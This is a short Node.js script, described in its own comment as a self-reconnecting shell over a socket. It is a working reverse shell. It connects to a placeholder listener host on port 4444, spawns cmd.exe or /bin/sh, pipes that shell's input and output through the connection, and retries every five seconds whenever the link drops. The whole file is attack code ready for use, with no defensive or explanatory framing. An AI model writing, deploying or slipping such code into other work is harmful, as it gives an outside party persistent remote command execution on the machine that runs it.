// A shell over a socket that comes again after it was lost.
var net = require('net');
var cp = require('child_process');

var HOST = 'listener.invalid';
var PORT = 4444;
var TIMEOUT = 5000;

if (typeof String.prototype.contains === 'undefined') {
  String.prototype.contains = function (it) {
    return this.indexOf(it) !== -1;
  };
}

function connect(host, port) {
  var client = new net.Socket();
  client.connect(port, host, function () {
    var shell = process.platform.contains('win') ? 'cmd.exe' : '/bin/sh';
    var sh = cp.spawn(shell, []);
    client.write('connected ' + process.pid + '\n');
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
    sh.on('exit', function (code, signal) {
      client.end('closed ' + code + signal + '\n');
    });
  });
  client.on('error', function (e) {
    setTimeout(function () {
      connect(host, port);
    }, TIMEOUT);
  });
  client.on('close', function () {
    setTimeout(connect, TIMEOUT, host, port);
  });
}

connect(HOST, PORT);
